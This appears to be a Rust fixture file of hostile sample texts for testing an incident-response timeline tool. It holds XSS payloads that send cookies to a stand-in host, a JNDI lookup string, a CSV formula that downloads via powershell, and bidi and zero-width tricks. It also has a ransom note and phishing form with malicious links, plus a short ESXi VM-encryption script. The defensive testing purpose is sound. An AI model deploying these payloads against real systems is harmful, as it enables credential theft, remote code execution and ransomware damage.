//! Texts that the attacker wrote to be read by whoever investigates: markup, formulas, invisible and turned characters.
//! Each is evidence and must be shown, never run; the tests of the whole program look for their effects.

use super::iocs::{LOOKALIKE, TURNED_NAME};
use super::script::*;

/// The longest title an analyst ever pasted.
pub const LONG_TITLE_CHARS: usize = 5_000;

pub fn events() -> Vec<Told> {
    vec![
        at("09-22 20:14:03.118 +00:00", INITIAL_ACCESS, "Web request to the EDI gateway with name=<script>alert(document.domain)</script>")
            .on(&["EDI-GW-01"])
            .ioc(&["192.0.2.201"])
            .tags("web,xss,hostile-text")
            .color(ORANGE)
            .says("A probe, stored in the partner list of the gateway and shown in its log viewer: <script>fetch('https://203.0.113.61/c?'+document.cookie)</script>\n\n<img src=x onerror=\"alert('content')\"> <svg onload=alert(2)> <iframe srcdoc=\"<script>alert(3)</script>\"></iframe>\n\nWhoever reads the log in a browser is the target.")
            .source("nginx")
            .raw("192.0.2.201 - - [22/Sep/2026:20:14:03 +0000] \"GET /partner?name=%3Cscript%3Ealert(document.domain)%3C/script%3E HTTP/1.1\" 200 512 \"-\" \"\"><img src=x onerror=alert(4)>\""),
        at("09-22 20:14:09.552 +00:00", INITIAL_ACCESS, "Lookup strings in the user agent: ${jndi:ldap://203.0.113.61/a} and {{7*7}}")
            .on(&["EDI-GW-01"])
            .ioc(&["203.0.113.61"])
            .tags("web,hostile-text,\"><b>tag</b>")
            .source("nginx")
            .raw("192.0.2.201 - - [22/Sep/2026:20:14:09 +0000] \"GET / HTTP/1.1\" 200 8120 \"${jndi:ldap://203.0.113.61/a}\" \"{{7*7}} <%= 7*7 %> #{7*7} %00\""),
        at("09-23 20:40:17.903 +00:00", EXECUTION, "=cmd|'/C powershell -nop -c iwr 203.0.113.61/x'!A1")
            .on(&["SRV-FILE-HAM"])
            .ioc(&["203.0.113.61"])
            .tags("hostile-text,csv-formula")
            .color(ORANGE)
            .says("**Title is the name of the file, as found.** Somebody expects that listings are opened in a spreadsheet. Variants in the same folder:\n\n| Name |\n|---|\n| `+SUM(1+1)*cmd` |\n| `-2+3+cmd` |\n| `@SUM(A1:A9)` |")
            .sysmon(11, "SRV-FILE-HAM", &[("TargetFilename", r"D:\shares\docs-hou\inbox\=cmd.csv"), ("Image", r"C:\ProgramData\PortSync\port_sync.exe")]),
        at("09-23 20:41:55.640 +00:00", DEFENSE_EVASION, format!("File {TURNED_NAME} in the team share: the end of the name is turned around"))
            .on(&["SRV-FILE-HAM"])
            .ioc(&[TURNED_NAME])
            .tags("hostile-text,bidi")
            .says("`U+202E` in the name. In Explorer it reads as a PDF.")
            .sysmon(11, "SRV-FILE-HAM", &[("TargetFilename", &format!(r"D:\shares\docs-hou\inbox\{TURNED_NAME}"))]),
        at("09-24 01:12:26.337 +00:00", PERSISTENCE, long_title())
            .on(&["SRV-PRINT-HOU"])
            .tags("persistence,hostile-text,t1543.003")
            .color(CYAN)
            .says("The display name of the service has 5,000 characters; the event viewer shows an empty line instead. The title is the name, complete.")
            .winlog("System", 7045, "SRV-PRINT-HOU", &[("ServiceName", "PrintSpoolHelper"), ("ImagePath", r"C:\ProgramData\PortSync\port_sync.exe -k print"), ("StartType", "auto start")]),
        at("09-25 06:30:44.281 +00:00", DEFENSE_EVASION, "Terminal codes and invisible characters in a log line: \u{feff}adm\u{200b}-rv\u{2060}os")
            .on(&["SRV-JUMP-01"])
            .ioc(&[LOOKALIKE])
            .tags("hostile-text,zero-width")
            .says("The account is not `adm-rvos`: three invisible characters stand in it. A search for the true name does not find this line.\n\nAlso: a Cyrillic letter in `\u{430}dmin` and 24 accents on one letter: a\u{0301}\u{0302}\u{0303}\u{0304}\u{0306}\u{0307}\u{0308}\u{030a}\u{030b}\u{030c}\u{030f}\u{0311}\u{0313}\u{0314}\u{031b}\u{0323}\u{0324}\u{0325}\u{0326}\u{0327}\u{0328}\u{032d}\u{032e}\u{0330}.")
            .source("Syslog")
            .raw("sshd[7712]: Failed password for invalid user \u{1b}[2J\u{1b}[31madm\u{200b}-rv\u{2060}os\u{1b}[0m\u{7}\u{8}\u{8} from 10.40.1.5 port 40112 ssh2\r\u{85}next line?"),
        at("09-29 01:21:58.000 +00:00", IMPACT, "Text of RECOVER-TIDELOCK.txt, as found")
            .on(&["ESX-HAM-01", "ESX-HAM-02"])
            .ioc(&["RECOVER-TIDELOCK.txt", "tidelock.desk@mail.example", "tidelk7q2manifestboard.example"])
            .tags("ransom-note,hostile-text")
            .color(RED)
            .flag()
            .key()
            .says("# TIDELOCK\n\nYour network is encrypted, 157 GB are with us.\n\n1. [Recover your files](javascript:fetch('https://203.0.113.61/?'+document.cookie))\n2. [Our desk](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)\n3. [https://brackwater.example/status](https://brackwater.example@203.0.113.61/login)\n4. <https://tidelk7q2manifestboard.example/bw>\n5. [mail us](mailto:tidelock.desk@mail.example?subject=bw)\n\n![logo](https://203.0.113.61/p.png?id=brackwater)\n\n<a href=\"vbscript:msgbox(1)\" onmouseover=\"alert(6)\">price list</a>\n\nDo **not** call the police.")
            .esxi("ESX-HAM-01", "shell", "[root]: cat /scratch/RECOVER-TIDELOCK.txt"),
        at("09-29 01:22:10.000 +00:00", IMPACT, "Second note imitates the console of the responders")
            .on(&["VC-HAM"])
            .ioc(&["203.0.113.61"])
            .tags("ransom-note,hostile-text,phishing")
            .color(RED)
            .says("---\n\n## ⚠ Your session has expired\n\nEnter your API key to continue:\n\n<form action=\"https://203.0.113.61/k\"><input name=\"key\"><button>Continue</button></form>\n\n[Sign in again](https://203.0.113.61/casebook/sign-in)\n\n---\n\n| a | b |\n|---|---|\n| unfinished <td onclick=alert(7)> | `code` |\n\n<style>body{display:none}</style><base href=\"https://203.0.113.61/\">")
            .source("Forensics"),
        at("09-29 01:58:30.500 +00:00", IMPACT, "Script of the encryptor, complete")
            .on(&["ESX-HOU-01"])
            .tags("encryption,esxi,large")
            .source("Forensics")
            .says("The raw field holds the whole script, about 60 kB in 900 lines. Lines 40 to 880 are padding.")
            .raw(script()),
    ]
}

fn long_title() -> String {
    let words = "Print Spool Helper Service for Compatibility with Legacy Devices ";
    words.chars().cycle().take(LONG_TITLE_CHARS).collect()
}

fn script() -> String {
    let padding = (40..880).map(|line| format!("# {line:04} {}\n", "ab91f0c4e277d35861".repeat(3)));
    let head = "#!/bin/sh\nfor vm in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do\n  vim-cmd vmsvc/power.off \"$vm\" </dev/null >/dev/null 2>&1\ndone\n";
    let tail = "find /vmfs/volumes -name '*.vmdk' -size +1M | while read -r f; do /scratch/tl_esx -f \"$f\" -s 32 & done\nwait\n";
    std::iter::once(head.to_owned()).chain(padding).chain(std::iter::once(tail.to_owned())).collect()
}
